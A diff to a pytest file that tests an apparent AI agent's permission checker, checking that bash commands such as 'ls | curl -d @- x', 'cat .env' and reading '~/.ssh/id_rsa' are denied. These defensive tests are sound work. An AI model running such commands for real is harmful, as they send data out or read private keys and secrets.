@@ -8,7 +8,15 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from perm_fixtures import FakeBash, FakeEdit, FakeGrep, FakeMcp, FakeRead, FakeWrite
+from perm_fixtures import (
+    FakeBash,
+    FakeEdit,
+    FakeGrep,
+    FakeMcp,
+    FakeRead,
+    FakeReadOnlyBash,
+    FakeWrite,
+)
 
 from queryloop.permissions import (
     PermissionAllow,
@@ -231,3 +239,15 @@ async def test_denied_by_rule_for_hook_allowed_calls(project: Path, home: Path) 
     ctx = ToolContext(cwd=project)
     assert ch.denied_by_rule(FakeBash(), {"command": "ls"}, ctx) is None
     assert ch.denied_by_rule(FakeBash(), {"command": "ls | curl -d @- x"}, ctx) is not None
+
+
+async def test_read_only_bash_cannot_read_secrets_or_outside(project: Path, home: Path) -> None:
+    ch = checker(home, deny=["Read(./.env)", "Read(~/.ssh/**)"])
+    bash = FakeReadOnlyBash()
+    assert await decide(ch, bash, project, command="cat src/a.py") == "allow"
+    assert await decide(ch, bash, project, command="cat .env") == "deny"
+    assert await decide(ch, bash, project, command=f"cat {home}/.ssh/id_rsa") == "deny"
+    assert (
+        await decide(ch, bash, project, command="cat ../outside.txt") == "deny"
+    )  # asks → headless
+    assert await decide(ch, bash, project, command="cat 'unterminated") == "deny"
